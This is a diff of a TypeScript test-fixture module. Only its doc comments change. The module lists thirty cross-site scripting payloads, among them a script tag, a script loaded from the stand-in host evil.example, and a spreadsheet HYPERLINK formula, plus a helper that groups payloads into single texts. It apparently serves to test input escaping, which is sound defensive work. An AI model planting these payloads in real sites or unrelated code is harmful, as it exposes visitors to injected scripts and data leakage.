@@ -1,15 +1,15 @@
-/** A text that someone would put into a field so that it runs, or reaches out, in the browser of a person who looks at it. */
+/** A text that tries to execute code or send requests in the browser of someone who views it. */
 export interface Payload {
   readonly kind: string
   readonly text: string
 }
 
-/** Where a payload reaches out to; no request to it ever leaves the machine. */
+/** The target of payloads' requests; no request to it ever leaves the machine. */
 export const OUTSIDE = 'evil.example'
 
 const TAG = '<script>alert(1)</script>'
 
-/** Thirty of them; most fit the shortest fields (a site's name has 50 characters). */
+/** Thirty payloads; most fit into the shortest fields (a site's name has 50 characters). */
 export const PAYLOADS: readonly Payload[] = [
   { kind: 'script tag', text: TAG },
   { kind: 'script from elsewhere', text: `<script src=//${OUTSIDE}/1.js></script>` },
@@ -43,13 +43,13 @@ export const PAYLOADS: readonly Payload[] = [
   { kind: 'formula', text: `=HYPERLINK("//${OUTSIDE}","x")` },
 ]
 
-/** Several payloads that stand in one text, one after the other. */
+/** Several payloads concatenated in one text. */
 export interface Group {
   readonly text: string
   readonly parts: readonly Payload[]
 }
 
-/** The payloads, so many to a text: a record of each kind for every one of them would be looked at for an hour. */
+/** Groups payloads into texts: a separate record of each kind for every payload would take an hour to view. */
 export const groupPayloads = (payloads: readonly Payload[], size: number): Group[] =>
   Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) => {
     const parts = payloads.slice(at * size, (at + 1) * size)
